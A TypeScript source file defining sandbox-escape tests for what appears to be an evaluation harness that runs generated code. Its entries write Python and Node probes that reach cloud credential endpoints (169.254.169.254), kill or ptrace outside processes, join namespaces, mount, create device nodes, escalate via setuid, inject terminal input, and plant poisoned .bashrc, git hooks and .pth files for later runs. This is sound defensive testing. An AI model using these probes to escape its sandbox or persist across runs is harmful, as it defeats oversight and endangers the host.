/** Attacks that try to get out: network, processes, namespaces, devices, and writing where nothing of theirs is. */
import { type Attack, heldOff, lines, nodeTest, pythonAttempts, pythonTest, quoted } from "./attack.ts";

const attack = (name: string, files: Attack["files"], more: Partial<Attack> = {}): Attack => ({
  ...{ name, group: "escapes", needs: "python", ask: { tests: true }, honest: heldOff, files },
  ...more,
});
const harmless = { harmless: true };

const network: Attack[] = [
  attack(
    "TCP to a server of this computer",
    ({ tcp }) => ({
      "test_attack.py": pythonAttempts([
        `with socket.create_connection(('127.0.0.1', ${tcp}), 2) as to:`,
        "    return to.recv(10)",
      ]),
    }),
    harmless,
  ),
  attack("TCP over IPv6", ({ tcp6 }) => ({
    "test_attack.py": pythonAttempts([
      `with socket.create_connection(('::1', ${tcp6}), 2) as to:`,
      "    return to.recv(10)",
    ]),
  })),
  attack("TCP to the world, also where the cloud keeps its credentials", () => ({
    "test_attack.py": pythonAttempts(
      ...["198.51.100.1", "169.254.169.254", "169.254.170.2", "10.0.0.1"].map((address) => [
        `with socket.create_connection((${quoted(address)}, 80), 2):`,
        "    return 'connected'",
      ]),
    ),
  })),
  attack(
    "UDP to a server of this computer",
    ({ udp }) => ({
      "test_attack.py": pythonTest(
        "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as to:",
        `    to.sendto(b'secret', ('127.0.0.1', ${udp}))`,
      ),
    }),
    { honest: { words: "it may send, and nothing arrives", tests: ["passed", "failed"] }, harmless: true },
  ),
  attack("DNS", () => ({
    "test_attack.py": pythonAttempts(
      ["return socket.getaddrinfo('secret.example.com', 80)"],
      ...["127.0.0.53", "8.8.8.8", "169.254.169.253"].map((address) => [
        "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as to:",
        "    to.settimeout(0.5)",
        `    to.sendto(bytes.fromhex('1234010000010000000000000365783103636f6d0000010001'), (${quoted(address)}, 53))`,
        "    return to.recv(512)",
      ]),
    ),
  })),
  attack(
    "a unix socket in the user's home",
    ({ socket }) => ({
      "test_attack.py": pythonAttempts([
        "with socket.socket(socket.AF_UNIX) as to:",
        `    to.connect(${quoted(socket)})`,
        "    return to.recv(10)",
      ]),
    }),
    harmless,
  ),
  attack(
    "an abstract unix socket",
    ({ abstractSocket }) => ({
      "test_attack.py": pythonAttempts([
        "with socket.socket(socket.AF_UNIX) as to:",
        `    to.connect('\\0' + ${quoted(abstractSocket)})`,
        "    return to.recv(10)",
      ]),
    }),
    harmless,
  ),
  {
    ...{ name: "fetch, from JavaScript", group: "escapes", ask: { tests: true }, honest: heldOff, harmless: true },
    files: ({ tcp, tcp6 }) => ({
      "attack.test.js": nodeTest(
        'const net = require("node:net");',
        "const reach = (at) => new Promise((resolve) => net.connect(at).once('data', () => resolve('reached')).once('error', (error) => resolve(error.code)));",
        `assert.notEqual(await reach({ host: "127.0.0.1", port: ${tcp} }), "reached");`,
        `assert.notEqual(await reach({ host: "::1", port: ${tcp6} }), "reached");`,
        `await assert.rejects(fetch("http://198.51.100.1/", { signal: AbortSignal.timeout(2000) }));`,
      ),
    }),
  },
];

const CALLS = ["import ctypes", "libc = ctypes.CDLL(None, use_errno=True)"];
const called = (call: string): string[] => [...CALLS, `return None if ${call} < 0 else 'succeeded'`];

const kernel: Attack[] = [
  attack("ending and tracing processes outside", ({ victim, evaluator }) => ({
    "test_attack.py": pythonAttempts(
      // The kernel counts from the beginning in there: a number that it does not have cannot be one of its own.
      ...[victim, evaluator].flatMap((pid) => [
        [`os.kill(${pid}, 0)`, `return ${pid} if ${pid} > 3000 else None`],
        pid > 3000 ? [`os.kill(${pid}, signal.SIGKILL)`, "return 'killed'"] : ["return None"],
        called(`libc.ptrace(16, ${pid}, 0, 0)`),
      ]),
      called("libc.ptrace(16, 1, 0, 0)"),
    ),
  })),
  attack("a user namespace of its own", () => ({
    "test_attack.py": pythonAttempts(called("libc.unshare(0x10000000)"), [
      "subprocess.run(['unshare', '--user', '--map-root-user', 'true'], check=True, capture_output=True)",
      "return 'made'",
    ]),
  })),
  attack("mounting", ({ home }) => ({
    "test_attack.py": pythonAttempts(
      called("libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)"),
      called(`libc.mount(${quoted(home)}.encode(), b'/tmp', None, 4096, None)`),
      called("libc.mount(None, b'/', None, 32, None)"),
      called("libc.umount2(b'/tmp', 2)"),
      called("libc.chroot(b'/proc/1/root')"),
      called("libc.pivot_root(b'/tmp', b'/tmp')"),
    ),
  })),
  attack("other namespaces, and joining those of process 1", () => ({
    "test_attack.py": pythonAttempts(
      ...[0x00020000, 0x40000000, 0x20000000, 0x04000000].map((flag) => called(`libc.unshare(${flag})`)),
      ...["user", "mnt", "net", "pid"].map((name) =>
        called(`libc.setns(os.open('/proc/1/ns/${name}', os.O_RDONLY), 0)`),
      ),
    ),
  })),
  attack("devices of this computer", () => ({
    "test_attack.py": pythonTest(
      "harmless = {'console', 'core', 'fd', 'full', 'null', 'ptmx', 'pts', 'random', 'shm', 'stderr', 'stdin', 'stdout', 'tty', 'urandom', 'zero'}",
      "self.assertEqual(set(os.listdir('/dev')) - harmless, set())",
    ),
  })),
  attack("device nodes of its own", () => ({
    "test_attack.py": pythonAttempts(
      ["os.mknod('disk', stat.S_IFBLK | 0o666, os.makedev(8, 0))", "return os.open('disk', os.O_RDONLY)"],
      ["os.mknod('memory', stat.S_IFCHR | 0o666, os.makedev(1, 1))", "return os.open('memory', os.O_RDONLY)"],
      ["os.mknod('/tmp/null', stat.S_IFCHR | 0o666, os.makedev(1, 3))", "return os.open('/tmp/null', os.O_WRONLY)"],
    ),
  })),
  attack("setuid programs, the system's and one of its own", () => ({
    "test_attack.py": pythonAttempts(
      ["os.setuid(0)", "return os.getuid()"],
      ["os.setresuid(0, 0, 0)", "return os.geteuid()"],
      ["os.setgroups([0])", "return os.getgroups()"],
      [
        "import shutil",
        "shutil.copy('/usr/bin/id', 'id')",
        "os.chmod('id', 0o6755)",
        "own = str(os.getuid())",
        "found = subprocess.run(['./id', '-u'], capture_output=True, text=True).stdout.strip()",
        "return None if found in (own, '') else found",
      ],
      [
        "status = open('/proc/self/status').read()",
        "return None if 'NoNewPrivs:\\t1' in status and 'CapEff:\\t0000000000000000' in status and 'CapBnd:\\t0000000000000000' in status else status",
      ],
    ),
  })),
  attack("settings of the kernel", () => ({
    "test_attack.py": pythonAttempts(
      ...[
        ...[
          "/proc/sys/kernel/core_pattern",
          "/proc/sys/kernel/hostname",
          "/proc/sysrq-trigger",
          "/proc/1/oom_score_adj",
        ],
        ...["/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs", "/proc/sys/vm/drop_caches"],
      ].map((path) => [`return os.write(os.open(${quoted(path)}, os.O_WRONLY), b'0')`]),
    ),
  })),
  attack("typing into the terminal that l2mac was started from", () => ({
    "test_attack.py": pythonAttempts(
      ["return os.open('/dev/tty', os.O_RDWR)"],
      ["import fcntl, termios", "fcntl.ioctl(0, termios.TIOCSTI, b'x')", "return 'typed'"],
      ["import fcntl, termios", "fcntl.ioctl(2, termios.TIOCSTI, b'x')", "return 'typed'"],
    ),
  })),
];

const writing: Attack[] = [
  attack(
    "writing into the user's home",
    ({ home, marker }) => ({
      "test_attack.py": pythonAttempts(
        [`open(${quoted(`${home}/${marker}`)}, 'w').close()`, "return 'written'"],
        [`open(${quoted(`${home}/.bashrc`)}, 'a').write('x')`, "return 'written'"],
      ),
    }),
    harmless,
  ),
  attack("writing into the system and beside the evaluator's programs", ({ scripts, marker, l2macHome }) => ({
    "test_attack.py": pythonAttempts(
      ...[
        "/usr",
        "/usr/local",
        "/usr/bin",
        "/etc",
        "/",
        "/var/tmp",
        "/run",
        scripts,
        `${l2macHome}/cache/environments`,
      ].map((folder) => [`open(${quoted(`${folder}/${marker}`)}, 'w').close()`, "return 'written'"]),
      ["import unittest", "open(os.path.dirname(unittest.__file__) + '/poison.py', 'w').close()", "return 'written'"],
      [`open(${quoted(`${scripts}/check-python.py`)}, 'a').write('x')`, "return 'written'"],
      ["open(sys.executable, 'ab').write(b'x')", "return 'written'"],
    ),
  })),
  attack(
    "a file in /tmp that everybody sees",
    ({ marker }) => ({ "test_attack.py": pythonTest(`open('/tmp/${marker}', 'w').close()`) }),
    { honest: { words: "it may write, and no one else sees it", tests: ["passed"] } },
  ),
  attack("links that the tree lists, leading out of it", ({ home, marker }) => ({
    ".l2mac-links.json": JSON.stringify({
      home,
      up: "../../../../../../../../tmp",
      "a/b/c": "../b",
      "a/over": "b/../../../..",
      "test_attack.py": home,
    }),
    "test_attack.py": pythonAttempts(
      ...["home", "up", "a/b/c", "a/over"].flatMap((link) => [
        [`return os.readlink(${quoted(link)})`],
        [`open(${quoted(`${link}/${marker}`)}, 'w').close()`, "return 'written'"],
      ]),
    ),
  })),
  attack(
    "links laid where the next evaluation writes",
    ({ home }) => ({
      "calc.py": lines("right = True"),
      "test_attack.py": pythonTest(
        "for name in ('calc.py', 'test_calc.py', 'twice.js', 'node_modules', '__pycache__'):",
        "    if os.path.lexists(name):",
        "        os.rename(name, name + '.away')",
        `    os.symlink(${quoted(`${home}/.bashrc`)}, name)`,
        "for place in (os.environ['HOME'], os.environ['TMPDIR'], '/tmp'):",
        `    os.symlink(${quoted(home)}, place + '/link')`,
        "report = os.path.dirname(os.environ.get('L2MAC_REPORT', '/tmp/x'))",
        `os.symlink(${quoted(`${home}/.bashrc`)}, report + '/next')`,
      ),
    }),
    { honest: { words: "it may make them, and they are not followed", tests: ["passed"] } },
  ),
  attack(
    "the tree that the next evaluation reads",
    ({ l2macHome }) => ({
      "calc.py": lines("right = True"),
      "test_attack.py": pythonAttempts(
        ...["calc.py", "poison.py", "__pycache__/calc.pyc"].map((name) => [
          `path = ${quoted(`${l2macHome}/cache/trees/HOSTILE/tree/${name}`)}`,
          "open(path, 'w').write('right = False')",
          "return path",
        ]),
      ),
    }),
    { ask: { syntax: true, tests: true } },
  ),
];

/** What would run before the tests of the next evaluation, if it stayed. */
const STARTED_BEFORE = [
  ...[".bashrc", ".profile", ".npmrc", ".pydistutils.cfg", ".gitconfig", ".config/git/hooks/pre-commit"],
  ...[".config/pip/pip.conf", ".cache/pip/http/poison", ".npm/_cacache/poison", ".node_modules/poison.js"],
];

const poisoning: Attack = attack(
  "caches, start files and hooks for the next evaluation",
  () => ({
    "test_attack.py": pythonTest(
      "import site",
      "def put(path, text):",
      "    os.makedirs(os.path.dirname(path), exist_ok=True)",
      "    open(path, 'w').write(text)",
      "places = (os.environ['HOME'], os.environ['TMPDIR'], os.getcwd(), '/tmp')",
      `for name in ${JSON.stringify(STARTED_BEFORE)}:`,
      "    for place in places:",
      "        put(place + '/' + name, 'poison')",
      "put(site.getusersitepackages() + '/poison.pth', 'import poisoned')",
      "put(site.getusersitepackages() + '/usercustomize.py', 'import os; os._exit(0)')",
      "put('.git/hooks/pre-commit', 'poison')",
      "put('.git/config', '[core]\\n\\tfsmonitor = poison\\n')",
      "put('node_modules/poison/index.js', 'poison')",
      "put('__pycache__/calc.cpython-311.pyc', 'poison')",
    ),
  }),
  {
    honest: { words: "it may write into its own folders", tests: ["passed"] },
    next: [
      {
        files: () => ({
          ".gitignore": "",
          "test_next.py": pythonTest(
            "import site",
            "self.assertEqual(os.listdir(os.environ['HOME']), [])",
            "self.assertEqual(set(os.listdir('.')), {'test_next.py', '.git', '.gitignore'})",
            "self.assertEqual(set(os.listdir('.git')), {'HEAD', 'config', 'objects', 'refs'})",
            "self.assertNotIn('fsmonitor', open('.git/config').read())",
            "self.assertFalse(os.path.exists(site.getusersitepackages()))",
            "self.assertFalse(os.path.exists('/tmp/.bashrc'))",
          ),
        }),
        ask: { tests: true },
        honest: { words: "it finds nothing of what was left", tests: ["passed"] },
      },
    ],
  },
);

export const escapeAttacks: Attack[] = [
  ...[...network, ...kernel],
  ...[...writing, poisoning].map((one): Attack => ({ ...one, lasting: true })),
];
